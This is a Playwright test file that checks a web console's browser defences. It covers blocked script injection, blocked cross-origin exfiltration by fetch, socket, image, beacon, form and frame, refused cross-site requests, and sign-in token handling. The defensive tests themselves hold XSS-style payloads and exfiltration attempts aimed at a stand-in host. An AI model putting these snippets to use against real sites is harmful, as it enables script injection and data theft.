import type { Page } from "@playwright/test";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { rpc } from "./console.ts";
import { expect, signIn, test } from "./fixtures.ts";

// What a browser refuses, what it keeps, and what a page from elsewhere can and cannot do.

test.skip(({ isMobile }) => isMobile, "The same at every width.");
test.use({ triesPolicy: true });

/** A site of somebody else's: a page, and a script that marks whatever runs it. Another name, so another site. */
async function startElsewhere(): Promise<{ url: string; close: () => void }> {
  const server: Server = createServer((request, response) => {
    const isScript = request.url === "/script.js";
    response.writeHead(200, { "content-type": isScript ? "text/javascript" : "text/html", "access-control-allow-origin": "*" });
    response.end(isScript ? "window.stolen = true;" : "<!doctype html><title>elsewhere</title><h1>Elsewhere</h1>");
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  return { url: `http://localhost:${(server.address() as AddressInfo).port}`, close: () => server.closeAllConnections() ?? server.close() };
}

/** The directives that the page's policy held against something, since it was loaded. */
async function watchPolicy(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    window.refused = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
      window.refused.push(`${effectiveDirective} ${blockedURI}`),
    );
  });
  return () => page.evaluate(() => window.refused);
}

const byText = (a = "", b = ""): number => a.localeCompare(b);

declare global {
  interface Window {
    refused: string[];
    stolen?: boolean;
  }
}

test("a script that is not the page's own runs on no page: inline, in an attribute, from elsewhere, or from text", async ({
  page,
  organization,
}) => {
  const elsewhere = await startElsewhere();
  const refused = await watchPolicy(page);
  await signIn(page, organization.email);
  await page.evaluate(async (url) => {
    const inline = document.createElement("script");
    inline.textContent = "window.stolen = true;";
    document.body.append(inline);
    document.body.insertAdjacentHTML("beforeend", '<img src="x" onerror="window.stolen = true">');
    const foreign = document.createElement("script");
    foreign.src = `${url}/script.js`;
    const ended = new Promise((done) => (foreign.onload = foreign.onerror = done));
    document.body.append(foreign);
    await ended;
    // Also not from text, in any of the three ways.
    /* oxlint-disable no-eval, typescript/no-implied-eval -- that they do not run is what is tried */
    for (const run of [
      () => eval("window.stolen = true"),
      () => new Function("window.stolen = true")(),
      () => setTimeout("window.stolen = true"),
    ]) {
      try {
        run();
      } catch {}
    }
    /* oxlint-enable no-eval, typescript/no-implied-eval */
  }, elsewhere.url);
  await expect
    .poll(async () => (await refused()).map((line) => line.split(" ")[0]).toSorted(byText))
    .toEqual(["script-src", "script-src", "script-src", "script-src-attr", "script-src-elem", "script-src-elem"]);
  expect(await page.evaluate(() => window.stolen)).toBeUndefined();
  elsewhere.close();
});

test("what the page knows cannot be sent elsewhere: by request, socket, picture, form or frame", async ({ page, organization }) => {
  const elsewhere = await startElsewhere();
  const refused = await watchPolicy(page);
  await signIn(page, organization.email);
  const answers = await page.evaluate(async (url) => {
    const fetched = await fetch(url).then(
      () => "sent",
      () => "refused",
    );
    let socket = "sent";
    try {
      const opened = new WebSocket(url.replace("http", "ws"));
      socket = await new Promise((done) => (opened.onerror = opened.onclose = () => done("refused")));
    } catch {
      socket = "refused";
    }
    const picture = await new Promise((done) =>
      Object.assign(new Image(), { onload: () => done("sent"), onerror: () => done("refused"), src: `${url}/?secret` }),
    );
    const beacon = navigator.sendBeacon(`${url}/?secret`, "x");
    document.body.insertAdjacentHTML(
      "beforeend",
      `<iframe src="${url}"></iframe><form id="out" action="${url}"><input name="secret" value="x"></form>`,
    );
    document.querySelector<HTMLFormElement>("#out")?.submit();
    return { fetched, socket, picture, beacon };
  }, elsewhere.url);
  expect(answers).toMatchObject({ fetched: "refused", socket: "refused", picture: "refused" });
  await expect
    .poll(async () => [...new Set((await refused()).map((line) => line.split(" ")[0]))].toSorted(byText))
    .toEqual(["connect-src", "form-action", "frame-src", "img-src"]);
  expect(new URL(page.url()).hostname).toBe("127.0.0.1");
  elsewhere.close();
});

test("no page from elsewhere may frame the console, read it, ask it, or stop an arm through somebody's browser", async ({
  page,
  site,
  organization,
}) => {
  const elsewhere = await startElsewhere();
  await signIn(page, organization.email);
  await page.goto(elsewhere.url);
  const wire = `${site.url}/api/query`;
  const answers = await page.evaluate(
    async ({ console: url, wire: address }) => {
      const tried = (request: Promise<Response>) =>
        request.then(
          async (response) => `${response.type} ${response.status} ${(await response.text()).length}`,
          () => "refused",
        );
      const body = JSON.stringify({ path: "publicApi:whoami", format: "json", args: { apiKey: "rfx_x" } });
      return {
        json: await tried(fetch(address, { method: "POST", headers: { "content-type": "application/json" }, body })),
        // Without a question beforehand: what an old form could send. It is sent, and the host refuses it unread.
        simple: await tried(fetch(address, { method: "POST", headers: { "content-type": "text/plain" }, body })),
        blind: await tried(fetch(`${url}/http/stop`, { method: "POST", mode: "no-cors", body: "{}" })),
        read: await tried(fetch(`${url}/version`)),
        script: await new Promise((done) =>
          document.head.append(
            Object.assign(document.createElement("script"), {
              src: `${url}/version`,
              onload: () => done("loaded"),
              onerror: () => done("refused"),
            }),
          ),
        ),
        socket: await new Promise((done) =>
          Object.assign(new WebSocket(`${url.replace("http", "ws")}/api/1.48.0/sync`), {
            onopen: () => done("opened"),
            onclose: () => done("refused"),
          }),
        ),
      };
    },
    { console: site.url, wire },
  );
  expect(answers).toEqual({ json: "refused", simple: "refused", blind: "refused", read: "refused", script: "refused", socket: "refused" });
  await page.evaluate((url) => {
    document.body.insertAdjacentHTML("beforeend", `<iframe src="${url}"></iframe>`);
  }, site.url);
  await expect.poll(() => page.frames().at(-1)?.url()).toMatch(/^chrome-error:/);
  // It may open the console in a window and send it away again, as any link can. It sees nothing of it.
  const popup = page.waitForEvent("popup");
  await page.evaluate((url) => void Object.assign(window, { opened: window.open(url) }), site.url);
  await expect((await popup).getByRole("heading", { level: 1 })).toBeVisible();
  expect(
    await page.evaluate(() => {
      try {
        return String((window as unknown as { opened: Window }).opened.document.title);
      } catch (error) {
        return (error as Error).name;
      }
    }),
  ).toBe("SecurityError");
  elsewhere.close();
});

test("the sign-in is kept in localStorage alone, never in a cookie or in the history, and signing out takes it away", async ({
  page,
  context,
  site,
  organization,
}) => {
  await signIn(page, organization.email);
  const kept = await page.evaluate(() => ({
    local: Object.fromEntries(Object.entries(localStorage)),
    session: Object.entries(sessionStorage),
    history: JSON.stringify(history.state),
    cookie: document.cookie,
  }));
  const tokens = Object.entries(kept.local)
    .filter(([key]) => /^__convexAuth(?:JWT|RefreshToken)_/.test(key))
    .map(([, value]) => String(value));
  expect(tokens).toHaveLength(2);
  const others = Object.entries(kept.local).filter(([key]) => !key.startsWith("__convexAuth"));
  for (const token of tokens) expect(JSON.stringify([others, kept.session, kept.history])).not.toContain(token);
  expect([kept.cookie, await context.cookies()]).toEqual(["", []]);

  const [jwt = ""] = tokens.filter((token) => token.startsWith("eyJ"));
  const me = async (): Promise<unknown> => await rpc(site.url, "query", "account:me", {}, { authorization: `Bearer ${jwt}` });
  expect(await me()).toMatchObject({ user: { email: organization.email } });
  await page.getByRole("button", { name: /^Account of/ }).click();
  await page.getByRole("button", { name: "Sign out" }).click();
  await expect(page.getByRole("heading", { level: 1, name: "Sign in" })).toBeVisible();
  const left = await page.evaluate(() => JSON.stringify([Object.entries(localStorage), Object.entries(sessionStorage), history.state]));
  for (const token of tokens) expect(left).not.toContain(token);
  // A copy of the token that somebody kept is good for nothing.
  expect(await me()).toEqual({});
});

test.describe("what every test of every page is held to", () => {
  test.use({ triesPolicy: false });
  const key = `rfx_${"0123456789abcdef".repeat(4)}`;
  const slips: Record<string, (page: Page) => Promise<unknown>> = {
    "a key in the console": (page) => page.evaluate((text) => console.debug("asked with", text), key),
    "a key in an address": (page) => page.evaluate((text) => fetch(`/version?key=${text}`).then((response) => response.text()), key),
    "something that the policy refuses": (page) => page.evaluate(() => fetch("http://elsewhere.example").catch(() => undefined)),
  };
  for (const [what, slip] of Object.entries(slips)) {
    test.fail(`${what} is found`, async ({ page }) => {
      await page.goto("/sign-in");
      await slip(page);
    });
  }
});
